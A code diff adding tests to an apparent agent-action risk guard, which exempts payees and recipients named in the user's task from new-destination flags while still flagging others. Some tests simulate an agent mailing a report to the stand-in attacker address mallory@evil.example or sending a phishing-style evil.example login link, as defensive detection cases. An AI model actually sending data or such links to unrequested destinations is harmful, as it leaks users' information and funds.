@@ -27,6 +27,7 @@ from risk.features import (
     amounts,
     destinations,
     feature_vector,
+    named_destinations,
     resource_prefix,
 )
 from risk.profiles import AgentProfile, Probe, profile_core, profile_from_core
@@ -97,6 +98,13 @@ def test_read_trace_reads_timestamps_without_a_zone_as_utc_and_honours_offsets(t
     )
     expected = datetime(2026, 3, 2, 9, 6, 5, tzinfo=UTC).timestamp()
     assert [a.ts for a in read_trace(trace)] == [expected, expected, expected]
+
+
+def test_read_trace_reads_the_task_and_refuses_one_that_is_not_a_string(tmp_path: Path) -> None:
+    (action,) = read_trace(write_lines(tmp_path / "t.jsonl", [line(task="Pay the rent")]))
+    assert action.task == "Pay the rent" and "task" not in action.extra
+    with pytest.raises(TraceError, match=r"t2\.jsonl:1: task must be a string"):
+        list(read_trace(write_lines(tmp_path / "t2.jsonl", [line(task=["Pay"])])))
 
 
 def test_read_trace_without_label_leaves_it_none_and_numbers_session_ids_become_strings(tmp_path: Path) -> None:
@@ -579,14 +587,18 @@ def test_novelty_rules_never_fire_for_reads(action_type: ActionType) -> None:
     assert novelty([1.0] * N_FEATURES, action_type) == []
 
 
-def send_email(scorer: BehaviorScorer, ts: float, to: str, *, allowed: bool | None = True, blame: bool = False) -> Any:
+def send_email(
+    scorer: BehaviorScorer, ts: float, to: str, *, allowed: bool | None = True, blame: bool = False,
+    body: str = "report", task: str | None = None,
+) -> Any:  # fmt: skip
     """Assess a send to `to` and, unless allowed is None, tell the scorer what was decided."""
-    resource, payload = f"mail.send/{to}", {"tool": "send_email", "args": {"recipients": [to], "body": "report"}}
+    resource, payload = f"mail.send/{to}", {"tool": "send_email", "args": {"recipients": [to], "body": body}}
     atype = ActionType.NETWORK_REQUEST
     _, rules = RuleScorer().score(atype, resource, payload)
     assessment = scorer.assess(
-        "mailer", ts=ts, action_type=atype, resource=resource, payload=payload, payload_bytes=60, rule_reasons=rules
-    )
+        "mailer", ts=ts, action_type=atype, resource=resource, payload=payload, payload_bytes=60, rule_reasons=rules,
+        task=task,
+    )  # fmt: skip
     if allowed is not None:
         scorer.observe("mailer", f"id-{ts}", ts, atype, resource, assessment, allowed, blame=blame)
     return assessment
@@ -625,6 +637,41 @@ def test_a_mature_agents_first_send_to_a_new_destination_is_flagged() -> None:
     assert "new_destination" in codes(novel)
     assert max(novel.severities) >= 0.5
     assert {"email:mallory@evil.example", "domain:evil.example"} <= set(novel.unseen_primary)
+
+
+@pytest.mark.parametrize(
+    "task, named",
+    [
+        ("Refund GB29NWBK60161331926819 for the dinner", {"iban:GB29NWBK60161331926819"}),
+        ("Mail the report to Carol@Partner.example", {"email:carol@partner.example", "domain:partner.example"}),
+        ("Share it with everyone at https://www.partner.example", {"host:partner.example"}),
+        ("Send Bob the summary", {"recipient:bob"}),
+        ("Send Bobby the summary", set()),  # a name is a whole word
+        ("Pay GB29NWBK60161331926810 instead", set()),
+        ("", set()),
+    ],
+)
+def test_named_destinations_are_the_addresses_hosts_ibans_and_names_the_task_writes(task: str, named: set[str]) -> None:
+    dests = ["iban:GB29NWBK60161331926819", "email:carol@partner.example", "domain:partner.example",
+             "host:partner.example", "recipient:bob", "recipient:"]  # fmt: skip
+    assert named_destinations(task, dests) == named
+
+
+def test_a_destination_the_task_names_is_not_new_nor_blamed_but_others_in_the_action_still_are() -> None:
+    scorer = BehaviorScorer(None, None)
+    for i in range(12):
+        send_email(scorer, T0 + 60 * i, "alice@corp.example")
+    task = "Send the quarterly report to our new auditor, carol@partner.example."
+    asked = send_email(scorer, T0 + 3600, "carol@partner.example", allowed=None, task=task)
+    assert asked.features[FEATURES.index("new_destination")] == 0.0
+    assert codes(asked) == {"named_by_task"} and not any(asked.severities) and asked.unseen_primary == ()
+    assert "carol@partner.example" in next(r.message for r in asked.reasons)
+    unasked = send_email(scorer, T0 + 3700, "mallory@evil.example", allowed=None, task=task)
+    assert "new_destination" in codes(unasked)
+    assert {"email:mallory@evil.example", "domain:evil.example"} <= set(unasked.unseen_primary)
+    link = send_email(scorer, T0 + 3800, "carol@partner.example", allowed=None, task=task,
+                      body="log in at https://evil.example/login")  # fmt: skip
+    assert "new_destination" in codes(link)  # the host in the body is not the task's
 
 
 def test_a_mature_agent_reading_something_new_gets_no_novelty_reason() -> None:
@@ -920,6 +967,22 @@ def test_guard_with_a_model_blocks_a_first_transfer_to_a_new_iban(tmp_path: Path
     clock.now += 300
     retry = guard.check("api_call", "bank.transfer", transfer(NEW_IBAN, 99))
     assert not retry.allowed and "denied_destination" in retry.reason_codes
+
+
+def test_guard_lets_a_new_payee_the_users_task_names_pass_and_audits_why(tmp_path: Path) -> None:
+    clock = Clock()
+    guard = make_guard(tmp_path, model=payments_model(), online=False, max_risk_score=0.5, mode="block", clock=clock)
+    run_payments(guard, clock)  # its last transfer, to NEW_IBAN without a task, is blocked and blames NEW_IBAN
+    other = "FR7630006000011234567890189"
+    asked = guard.check("api_call", "bank.transfer", transfer(other), task=f"Pay my new landlord, IBAN {other}")
+    assert asked.allowed and "new_destination" not in asked.reason_codes and "named_by_task" in asked.reason_codes
+    (audited,) = guard.audit.query(AuditQuery(action_id=asked.action_id))
+    assert any(r["code"] == "named_by_task" and other in r["message"] for r in audited.reasons)
+    clock.now += 300
+    unasked = guard.check("api_call", "bank.transfer", transfer("NL91ABNA0417164300"), task=f"Pay {other}")
+    assert not unasked.allowed and "new_destination" in unasked.reason_codes
+    with pytest.raises(ValueError, match="task must be a string"):
+        guard.check("api_call", "bank.transfer", transfer(other), task=[other])  # type: ignore[arg-type]
 
 
 def test_guard_refuses_a_model_fitted_on_the_wrong_feature_width(tmp_path: Path) -> None:
